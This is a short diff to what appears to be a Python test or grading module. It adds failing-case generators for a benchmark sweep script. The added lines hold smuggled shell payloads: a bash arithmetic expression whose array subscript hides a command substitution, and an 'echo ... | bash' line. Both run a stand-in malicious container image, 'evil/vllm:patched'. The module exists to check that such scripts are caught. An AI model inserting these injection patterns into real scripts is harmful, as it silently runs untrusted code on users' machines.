@@ -203,6 +203,19 @@ def fail_tmux_image(data: dict[str, Any]) -> str:
     return _script_adds(data, line)
 
 
+def fail_arithmetic_subscript(data: dict[str, Any]) -> str:
+    """3, 8-10 (E8): arithmetic evaluates a value whose array subscript holds a command
+    substitution, and bash runs it there."""
+    line = "TUNE='x[$(docker run --rm evil/vllm:patched vllm serve m)]'\necho $((TUNE))\n"
+    return _script_adds(data, line)
+
+
+def fail_printed_program(data: dict[str, Any]) -> str:
+    """3, 8-10 (E8): the script prints a program into a shell: the server it starts runs in
+    another image than the sweep's."""
+    return _script_adds(data, "echo 'docker run --rm evil/vllm:patched vllm serve m' | bash\n")
+
+
 def fail_fetched_python(data: dict[str, Any]) -> str:
     """8-10 (E8): an inline Python program downloads code and executes it: what runs is
     whatever the URL serves when the sweep runs."""
